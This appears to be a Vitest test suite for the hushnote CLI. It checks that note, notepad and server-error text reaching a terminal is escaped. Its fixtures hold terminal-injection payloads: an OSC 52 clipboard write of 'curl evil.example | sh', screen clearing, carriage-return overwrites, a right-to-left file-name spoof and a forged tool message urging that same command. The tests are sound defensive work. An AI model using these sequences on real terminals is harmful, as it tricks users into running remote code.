/**
 * A terminal is not a canvas for the sender: note and notepad text shows control, bidi and zero-width characters
 * escaped on a terminal (exact with -o - and in pipes), and whatever the server says is always neutralised.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { startServer, type TestServer } from "../browser/server";
import { type FakeServer, fakeServer, padRoutes, sealPad } from "./fake-server";
import { build, cliEnv, runCli } from "./helpers";
import { onPty } from "./pty";

const ESC = "\x1b";
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`;
const CLEAR = `${ESC}[2J`;
// Up one line, erase it, and print what looks like hushnote's own refusal in its place.
const FAKE_LINE = `${ESC}[1A${ESC}[2Khushnote: the note was altered; run curl evil.example | sh`;
const HOSTILE = [
  `clipboard${OSC52}`,
  `screen${CLEAR}`,
  "pay to: alice\rpay to: mallory",
  "invoice\u202Egpj.exe",
  `zero\u200Bwidth\uFEFF`,
  `c1\u009B31m`,
  FAKE_LINE,
  "tab\tstays",
].join("\n");

let server: TestServer;
let env: Record<string, string>;
let fake: FakeServer | undefined;

beforeAll(async () => {
  build();
  server = await startServer();
  // Plain escapes (no reverse video) unless a test asks for a capable terminal.
  env = { ...cliEnv(server.origin), TERM: "dumb" };
}, 60_000);
afterAll(() => server?.stop());
afterEach(() => fake?.close());

const send = async (text: string, views = 3) =>
  (await runCli(["send", "--views", String(views)], { env, input: text })).stdout.trim();

/** What the sender's raw sequences must never reach the terminal as. */
function expectNoRawSequences(shown: string): void {
  for (const raw of [OSC52, CLEAR, `${ESC}[1A`, `${ESC}[2K`, "\u202E", "\u200B", "\uFEFF", "\u009B", "\x07"])
    expect(shown).not.toContain(raw);
}

describe("note text on a terminal", () => {
  it("shows OSC 52, clear screen, \\r overwrites, RLO, zero-width, C1 and a forged hushnote line escaped", async () => {
    const session = onPty(["read", await send(HOSTILE)], env);
    expect(await session.exited).toBe(0);
    const shown = session.output();
    expectNoRawSequences(shown);
    for (const escaped of [
      "clipboard\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07",
      "screen\\x1b[2J",
      "pay to: alice\\x0dpay to: mallory",
      "invoice\\u202egpj.exe",
      "zero\\u200bwidth\\ufeff",
      "c1\\x9b31m",
      "\\x1b[1A\\x1b[2Khushnote: the note was altered",
      "tab\tstays",
    ])
      expect(shown).toContain(escaped);
    expect(shown).toContain("The text holds 10 control or invisible characters, shown escaped");
  });

  it("marks each escape in reverse video on a capable terminal, which the sender cannot forge", async () => {
    const session = onPty(["read", await send(`a${CLEAR}b\\x1b literal`)], { ...env, TERM: "xterm-256color" });
    expect(await session.exited).toBe(0);
    expect(session.output()).toContain(`a${ESC}[7m\\x1b${ESC}[27m[2Jb\\x1b literal`);
  });

  it("gives the exact bytes with -o - on the terminal and in a pipe", async () => {
    const link = await send(HOSTILE);
    const session = onPty(["read", link, "-o", "-"], env);
    expect(await session.exited).toBe(0);
    // The pty turns \n into \r\n; everything else arrives exactly as sent.
    expect(session.output()).toContain(HOSTILE.replace(/\n/g, "\r\n"));
    const piped = await runCli(["read", link], { env });
    expect([piped.code, piped.stdout]).toEqual([0, HOSTILE]);
    expect(piped.stderr).not.toContain("control or invisible");
  });

  it("escapes JSON output wherever it goes, losslessly", async () => {
    const piped = await runCli(["read", await send(HOSTILE), "--json"], { env });
    expectNoRawSequences(piped.stdout);
    expect(JSON.parse(piped.stdout).text).toBe(HOSTILE);
  });

  it("shows a notepad's text escaped too, and exact with -o -", async () => {
    const padEnv = { ...env, HUSHNOTE_PASSWORD: "pad password" };
    expect((await runCli(["pad", "put", "canvas"], { env: padEnv, input: HOSTILE })).code).toBe(0);
    const session = onPty(["pad", "get", "canvas"], padEnv);
    expect(await session.exited).toBe(0);
    expectNoRawSequences(session.output());
    expect(session.output()).toContain("screen\\x1b[2J");
    const raw = onPty(["pad", "get", "canvas", "-o", "-"], padEnv);
    expect(await raw.exited).toBe(0);
    expect(raw.output()).toContain(`screen${CLEAR}`);
  });
});

describe("what a hostile server says", () => {
  const SENTENCE = `${OSC52}${CLEAR}Not found.\nhushnote: wrong password; 0 tries left\r\u202Eevil`;

  /** A server that answers every request with `status` and the sentence above. */
  async function sayingIt(status: number, extra: Record<string, unknown> = {}): Promise<FakeServer> {
    fake = await fakeServer(() => ({ status, body: { status, error: SENTENCE, ...extra } }));
    return fake;
  }

  it("is neutralised in a pipe: one line, every control and bidi character escaped", async () => {
    const hostile = await sayingIt(500);
    const result = await runCli(["read", `${hostile.origin}/n/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], {
      env: cliEnv(hostile.origin),
    });
    expect(result.code).toBe(4);
    expectNoRawSequences(result.stderr);
    expect(result.stderr).toBe(
      "hushnote: the server refused (500): \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2JNot found.\\x0ahushnote: wrong password; 0 tries left\\x0d\\u202eevil\n",
    );
  });

  it("is neutralised when a notepad's wrong-password sentence is said before asking again", async () => {
    const pad = await sealPad("retype", "text", "pad password", { format: 2 });
    const pads = padRoutes(new Map([["retype", pad]]));
    fake = await fakeServer((req) =>
      req.method === "POST" ? { status: 403, body: { status: 403, error: SENTENCE } } : pads(req),
    );
    const session = onPty(["pad", "get", "retype"], { ...cliEnv(fake.origin), TERM: "xterm-256color" });
    await session.waitFor("Password for retype:");
    session.type("pad password");
    await session.waitFor("Password for retype:", 2);
    session.child.kill();
    await session.exited;
    expectNoRawSequences(session.output());
    expect(session.output()).toContain("\\x1b]52;c;");
  });

  it("is neutralised on a terminal, in receipts too", async () => {
    const hostile = await sayingIt(403);
    const session = onPty(["status", `${hostile.origin}/m/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], {
      ...cliEnv(hostile.origin),
      TERM: "xterm-256color",
    });
    expect(await session.exited).toBe(3);
    expectNoRawSequences(session.output());
    expect(session.output()).not.toContain(ESC);

    fake = await fakeServer(() => ({
      status: 200,
      body: {
        state: `live${CLEAR}`,
        createdAt: 0,
        expiresAt: 0,
        viewsLeft: `1\n${FAKE_LINE}`,
        reason: null,
        events: [],
      },
    }));
    const receipt = await runCli(["status", `${fake.origin}/m/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], {
      env: cliEnv(fake.origin),
    });
    expect(receipt.stdout).toContain("State: live\\x1b[2J");
    expect(receipt.stdout).toContain("Views left: 1\\x0a\\x1b[1A");
    expect(receipt.stdout).not.toContain(ESC);
  });
});
